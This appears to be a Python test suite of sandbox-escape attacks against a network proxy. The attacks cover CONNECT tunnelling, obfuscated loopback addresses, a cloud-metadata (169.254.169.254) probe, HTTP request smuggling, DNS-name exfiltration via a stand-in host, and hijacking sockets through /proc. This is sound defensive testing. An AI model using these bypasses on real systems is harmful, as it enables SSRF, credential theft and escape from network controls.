"""Attacks on the proxy of a sandbox, or on the lack of one: each tries to reach a listener outside that is not allowed.

Where no proxy is set, an attack connects by itself, which is also how it succeeds without a sandbox.
"""

import os
import socket
import stat

from callgate.host.sandbox.attacks import ArenaFacts, Spot
from tests.host.sandbox.attacks.table import attack


def proxy_port() -> int | None:
    address = os.environ.get("HTTP_PROXY", "")
    return int(address.rpartition(":")[2]) if address else None


def tunnel(at: Spot, host: str, port: int, proxy: int | None = None) -> None:
    """Open a tunnel through the proxy to this host, and send the name of the attack to the listener at ``port``.
    Connect directly if there is no proxy, as outside a sandbox."""
    proxy = proxy or proxy_port()
    with socket.create_connection(("127.0.0.1", proxy or port), timeout=5) as channel:
        if proxy:
            channel.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            check_answer(channel)
        channel.sendall(at.name.encode())


def request(text: str) -> None:
    """Send a request to the proxy and read the whole answer. Raise PermissionError if no proxy is set."""
    proxy = proxy_port()
    if proxy is None:
        raise PermissionError("no proxy is set")
    with socket.create_connection(("127.0.0.1", proxy), timeout=5) as channel:
        channel.sendall(text.replace("\n", "\r\n").encode())
        check_answer(channel)
        while channel.recv(1000):
            pass


def check_answer(channel: socket.socket) -> None:
    """Raise PermissionError unless the proxy answers with status 200."""
    line = channel.recv(1000).decode(errors="replace").partition("\r\n")[0]
    if line.split(" ")[1:2] != ["200"]:
        raise PermissionError(line or "the connection was closed")


def _ask(arena: ArenaFacts, at: Spot, text: str) -> None:
    """Send a request to the proxy, or without one the attack's name to the listener."""
    if proxy_port() is not None:
        request(text)
        return
    with socket.create_connection(("127.0.0.1", arena["port"]), timeout=5) as channel:
        channel.sendall(at.name.encode())


@attack
def tunnel_to_host_not_allowed(arena: ArenaFacts, at: Spot) -> None:
    tunnel(at, "localhost", arena["port"])


@attack
def tunnel_to_name_of_own_machine(arena: ArenaFacts, at: Spot) -> None:
    """Connect through the proxy to an allowed name that resolves to this machine."""
    tunnel(at, arena["rebound"], arena["port"])


@attack
def tunnel_to_address(arena: ArenaFacts, at: Spot) -> None:
    tunnel(at, "127.0.0.1", arena["port"])


@attack
def tunnel_to_address_in_other_spelling(arena: ArenaFacts, at: Spot) -> None:
    for host in ("2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "localhost.", "LOCALHOST%00"):
        try:
            tunnel(at, host, arena["port"])
        except PermissionError as error:
            refused = error
        else:
            return
    raise refused


@attack
def tunnel_to_cloud_metadata(arena: ArenaFacts, at: Spot) -> bool:
    """The name is allowed, and leads to the address that serves keys to machines in a cloud. Nothing is sent there: an
    answer of the proxy other than a refusal says that it would connect."""
    port = proxy_port()
    if port is None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.connect(("169.254.169.254", 80))
        return True
    with socket.create_connection(("127.0.0.1", port), timeout=5) as channel:
        channel.sendall(f"CONNECT {arena['metadata']}:443 HTTP/1.1\r\n\r\n".encode())
        line = channel.recv(1000).decode(errors="replace").partition("\r\n")[0]
    if " 403 " in line:
        raise PermissionError(line)
    return True


@attack
def fetch_from_host_not_allowed(arena: ArenaFacts, at: Spot) -> None:
    host = f"localhost:{arena['port']}"
    _ask(arena, at, f"GET http://{host}/{at.name} HTTP/1.1\nHost: {host}\n\n")


@attack
def fetch_with_host_of_another(arena: ArenaFacts, at: Spot) -> None:
    """The address is allowed, its Host header is not."""
    allowed, other = f"localhost:{arena['allowed']}", f"localhost:{arena['port']}"
    _ask(arena, at, f"GET http://{allowed}/{at.name} HTTP/1.1\nHost: {other}\n\n")


@attack
def fetch_with_two_hosts(arena: ArenaFacts, at: Spot) -> None:
    allowed, other = f"localhost:{arena['allowed']}", f"localhost:{arena['port']}"
    _ask(arena, at, f"GET http://{allowed}/{at.name} HTTP/1.1\nHost: {allowed}\nHost: {other}\n\n")


@attack
def fetch_behind_allowed_request(arena: ArenaFacts, at: Spot) -> None:
    """A second request on the connection of an allowed one."""
    allowed, other = f"localhost:{arena['allowed']}", f"localhost:{arena['port']}"
    first = f"GET http://{allowed}/ HTTP/1.1\nHost: {allowed}\nConnection: keep-alive\n\n"
    _ask(arena, at, f"{first}GET http://{other}/{at.name} HTTP/1.1\nHost: {other}\n\n")


@attack
def fetch_behind_allowed_body(arena: ArenaFacts, at: Spot) -> None:
    """A body with two lengths, of which a server may believe the shorter one."""
    allowed = f"localhost:{arena['allowed']}"
    second = f"GET /{at.name} HTTP/1.1\nHost: {allowed}\n\n"
    first = f"POST http://{allowed}/ HTTP/1.1\nHost: {allowed}\nTransfer-Encoding: chunked\nContent-Length: 5\n\n0\n\n"
    _ask(arena, at, first + second)


@attack
def carry_secret_in_looked_up_name(arena: ArenaFacts, at: Spot) -> None:
    """Names that are looked up reach the one who serves them, whatever becomes of the connection."""
    if proxy_port() is None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.sendto(at.name.encode(), ("127.0.0.1", arena["udp"]))
        return
    tunnel(at, f"{at.name}.tunnel.example", 443)


@attack
def write_to_line_of_proxy(arena: ArenaFacts, at: Spot) -> None:
    """Looks for the proxy's line, or any other socket, among the descriptors of all processes that can be seen."""
    found = [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
    found = [number for number in found if _is_socket(f"/proc/self/fd/{number}")]
    if found:
        for number in found:
            socket.socket(fileno=os.dup(number)).send(at.name.encode())
        return
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            paths = [f"/proc/{process}/fd/{name}" for name in os.listdir(f"/proc/{process}/fd")]
        except OSError:
            continue
        for path in filter(_is_socket, paths):
            os.open(path, os.O_RDWR)
    raise PermissionError("there is none")


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.stat(path).st_mode)
    except OSError:
        return False


@attack
def use_proxy_of_another_sandbox(arena: ArenaFacts, at: Spot) -> None:
    """The other proxy lets everything through, to whoever reaches it."""
    tunnel(at, "localhost", arena["port"], proxy=arena["other_proxy"])
